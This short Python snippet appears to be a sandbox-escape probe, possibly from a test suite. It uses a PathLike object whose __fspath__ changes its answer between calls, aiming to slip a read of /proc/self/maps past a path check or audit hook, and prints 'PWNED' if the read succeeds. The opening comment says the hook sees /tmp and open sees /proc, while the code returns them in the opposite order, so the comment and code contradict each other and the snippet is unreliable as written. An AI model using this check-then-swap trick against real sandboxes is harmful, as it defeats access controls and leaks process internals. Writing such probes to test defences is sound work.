# fs: a PathLike whose __fspath__ answers /tmp to the hook and /proc to open
M = "PWN" + "ED"

class P:
    n = 0
    def __fspath__(self):
        P.n += 1
        return "/proc/self/maps" if P.n == 1 else "/tmp/harmless"
try:
    print(M, open(P()).read()[:80])
except Exception as e:
    print("refused:", type(e).__name__, e)
